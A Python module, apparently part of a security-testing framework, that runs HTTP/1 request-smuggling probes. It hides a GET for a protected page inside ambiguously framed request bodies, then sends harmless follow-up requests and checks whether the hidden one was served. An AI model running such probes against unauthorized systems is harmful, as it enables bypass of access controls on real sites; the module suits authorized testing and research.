"""Requests within requests, over HTTP/1.

The server and the site must agree where each request ends: by `Content-Length`, by chunks, or at the head. Where a doubtful
request is passed on as it came, the site takes a part of its body for a request that the server never saw. The body here is
a request for the priced page; other requests follow, to fetch the answer.
"""

from collections.abc import Iterator
from functools import partial

from core import http1
from core.attack import Attack, Need, Outcome, Try
from core.framings import ambiguous
from core.scene import NO_MARK, TRY_HEADER, Scene
from core.target import Way
from core.wire import Connection, Exchange, answered

ANSWER_SECONDS = 0.5
"""A server that waits for more of a body says nothing; it is not waited for longer."""


def tries(scene: Scene) -> Iterator[Try]:
    target = scene.target
    free = target.free_path or b"/"
    inner = http1.request(b"GET", target.path, [(b"Host", target.host), (TRY_HEADER, NO_MARK)])
    everything = list(ambiguous(free, target.host, inner))
    for framed in scene.sampled(everything, len(everything)):
        mark = scene.mark()
        run = partial(send, scene, framed.data.replace(NO_MARK, mark), mark)
        yield Try(framed.name, run, (Need.SECRET, Need.FREE))


async def send(scene: Scene, data: bytes, mark: bytes) -> Outcome:
    """Sends a doubtful request and harmless ones behind it, on the same connection and on another."""
    target = scene.target
    door = target.door(Way.HTTP11)
    assert door
    free = http1.request(b"GET", target.free_path or b"/", [(b"Host", target.host)])
    exchanges: list[Exchange] = []
    async with Connection(door, patience=ANSWER_SECONDS) as connection:
        await connection.send(data, data.partition(b" ")[0])
        exchange = await connection.read(answered(1))
        if not exchange.closed:
            await connection.send(free + free, b"GET", b"GET")
            await connection.read(answered(3))
        exchanges.append(exchange)
    async with Connection(door, patience=ANSWER_SECONDS) as connection:
        await connection.send(free, b"GET")
        exchanges.append(await connection.read(answered(1)))
    return scene.judge(exchanges, mark)


ATTACK = Attack("smuggling", 6, "requests hidden in the bodies of others", tries, origins=frozenset({"framing"}))
